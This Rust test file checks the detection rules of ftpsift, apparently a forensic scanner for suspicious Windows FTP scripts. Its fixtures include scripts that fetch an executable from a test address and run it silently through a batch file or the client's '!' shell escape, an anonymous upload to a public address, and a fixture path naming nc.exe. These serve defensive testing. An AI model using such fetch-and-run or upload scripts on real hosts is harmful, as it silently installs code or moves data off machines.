//! The rules, one by one: what sets each off and what does not.

use crate::support::{case, testdata};
use ftpsift::finding::rules::RULES;
use std::collections::BTreeSet;

/// Files of a host, and the rules that must and must not speak.
struct Matter {
    about: &'static str,
    files: Vec<(&'static str, Vec<u8>)>,
    speak: &'static [&'static str],
    silent: &'static [&'static str],
}

fn matter(
    about: &'static str,
    files: &[(&'static str, &[u8])],
    speak: &'static [&'static str],
    silent: &'static [&'static str],
) -> Matter {
    Matter { about, files: files.iter().map(|(path, content)| (*path, content.to_vec())).collect(), speak, silent }
}

fn matters() -> Vec<Matter> {
    let unsigned = std::fs::read(testdata("host/Windows/Temp/nc.exe")).unwrap();
    let signed = std::fs::read(testdata("signed/sha256.exe")).unwrap();
    let tampered = std::fs::read(testdata("signed/tampered.exe")).unwrap();
    let garbled = std::fs::read(testdata("signed/garbled.exe")).unwrap();
    let dense: Vec<u8> = (0..9000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let fetch = |name: &str| format!("open 192.0.2.1\nuser bob pw\nbinary\nget {name}\nbye\n").into_bytes();
    let fetched = |about, name: &'static str, content: &[u8], speak, silent| {
        matter(about, &[("a.txt", &fetch(name)), (name, content)], speak, silent)
    };
    vec![
        matter(
            "a login, a download, nothing else",
            &[("a.txt", &fetch("list.csv")), ("list.csv", b"a;b\n")],
            &["script.credentials", "transfer.download"],
            &[
                "transfer.upload",
                "payload.missing",
                "session.anonymous",
                "session.nonstandard-port",
                "payload.type-mismatch",
            ],
        ),
        matter(
            "an upload to a public address on another port, anonymously",
            &[("a.txt", b"open 8.8.4.4 2121\nuser anonymous a@b.example\nput list.csv\nbye\n"), ("list.csv", b"a;b\n")],
            &["transfer.upload", "session.raw-public-address", "session.nonstandard-port", "session.anonymous"],
            &["script.credentials", "transfer.download"],
        ),
        matter(
            "a private address is no public one",
            &[("a.txt", b"open 10.0.0.1\nuser a b\nput list.csv\nbye\n")],
            &["transfer.upload"],
            &["session.raw-public-address", "session.nonstandard-port"],
        ),
        matter(
            "a script in a temporary folder",
            &[("Windows/System32/x.ini", b""), ("Windows/Temp/a.txt", &fetch("a.csv"))],
            &["script.writable-folder", "payload.missing"],
            &["launch.script-gone"],
        ),
        matter(
            "ASCII mode damages programs, not tables",
            &[("a.txt", b"open 192.0.2.1\nuser a b\nget a.exe\nget a.csv\nbye\n")],
            &["transfer.ascii-executable"],
            &[],
        ),
        matter("binary mode damages nothing", &[("a.txt", &fetch("a.exe"))], &[], &["transfer.ascii-executable"]),
        matter(
            "a batch file runs what its script fetched",
            &[("a.txt", &fetch("a.exe")), ("go.bat", b"ftp -n -s:a.txt\r\nstart a.exe /q\r\n")],
            &["script.executes-download"],
            &["launch.script-gone", "script.shell-escape"],
        ),
        matter(
            "the client's shell runs it",
            &[("a.txt", b"open 192.0.2.1\nuser a b\nget a.exe\n!a.exe /q\nbye\n")],
            &["script.executes-download", "script.shell-escape"],
            &[],
        ),
        matter(
            "a script that is gone",
            &[("go.bat", b"ftp -n -s:gone.txt\r\n")],
            &["launch.script-gone"],
            &["payload.missing"],
        ),
        matter(
            "a launch that is commented out",
            &[("go.bat", b"rem ftp -n -s:gone.txt\r\n")],
            &[],
            &["launch.script-gone"],
        ),
        matter(
            "another login than meant",
            &[("a.txt", b"open 192.0.2.1\nUSER bob\nPASS secret\nget a.csv\nbye\n"), ("go.bat", b"ftp -s:a.txt\r\n")],
            &["session.intended-login-differs", "script.credentials"],
            &[],
        ),
        fetched(
            "an unsigned program",
            "a.exe",
            &unsigned,
            &["payload.unsigned-executable"],
            &["payload.tampered-executable"],
        ),
        fetched(
            "a signed program",
            "a.exe",
            &signed,
            &[],
            &[
                "payload.unsigned-executable",
                "payload.tampered-executable",
                "payload.malformed-signature",
                "payload.type-mismatch",
            ],
        ),
        fetched(
            "a changed program",
            "a.exe",
            &tampered,
            &["payload.tampered-executable"],
            &["payload.unsigned-executable"],
        ),
        fetched(
            "a garbled signature",
            "a.exe",
            &garbled,
            &["payload.malformed-signature"],
            &["payload.tampered-executable"],
        ),
        fetched("a program as a picture", "a.jpg", &unsigned, &["payload.type-mismatch"], &["payload.deceptive-name"]),
        fetched("two extensions", "a.pdf.exe", &unsigned, &["payload.deceptive-name"], &["payload.type-mismatch"]),
        fetched("dense bytes", "a.bin", &dense, &["payload.high-entropy"], &["payload.type-mismatch"]),
        matter(
            "an uploaded program need not be signed",
            &[("a.txt", b"open 192.0.2.1\nuser a b\nbinary\nput a.exe\nbye\n"), ("a.exe", &unsigned)],
            &["transfer.upload"],
            &["payload.unsigned-executable"],
        ),
        matter(
            "prose",
            &[("a.txt", b"open the door and get coffee, bye")],
            &[],
            &["script.credentials", "transfer.download"],
        ),
    ]
}

#[test]
fn rules_speak_when_they_should_and_only_then() {
    for matter in matters() {
        let case = case(matter.files);
        let spoken: BTreeSet<&str> = case.findings.iter().map(|finding| finding.rule.as_str()).collect();
        for rule in matter.speak {
            assert!(spoken.contains(rule), "{}: {rule} is silent; {spoken:?}", matter.about);
        }
        for rule in matter.silent {
            assert!(!spoken.contains(rule), "{}: {rule} speaks; {:#?}", matter.about, case.findings);
        }
        assert_eq!(case.scan.counts.findings, case.findings.len() as u64);
    }
}

#[test]
fn every_rule_is_shown_to_speak() {
    let shown: BTreeSet<&str> = matters().iter().flat_map(|matter| matter.speak.iter().copied()).collect();
    for rule in RULES {
        assert!(shown.contains(rule.id), "{} is never shown to speak", rule.id);
    }
}

#[test]
fn findings_refer_to_records_of_the_case() {
    for matter in matters() {
        let case = case(matter.files);
        let report = serde_json::to_string(&case).unwrap();
        for finding in &case.findings {
            for id in &finding.evidence_refs {
                assert!(report.contains(&format!("\"id\":\"{id}\"")), "{}: {id}", finding.rule);
            }
        }
    }
}
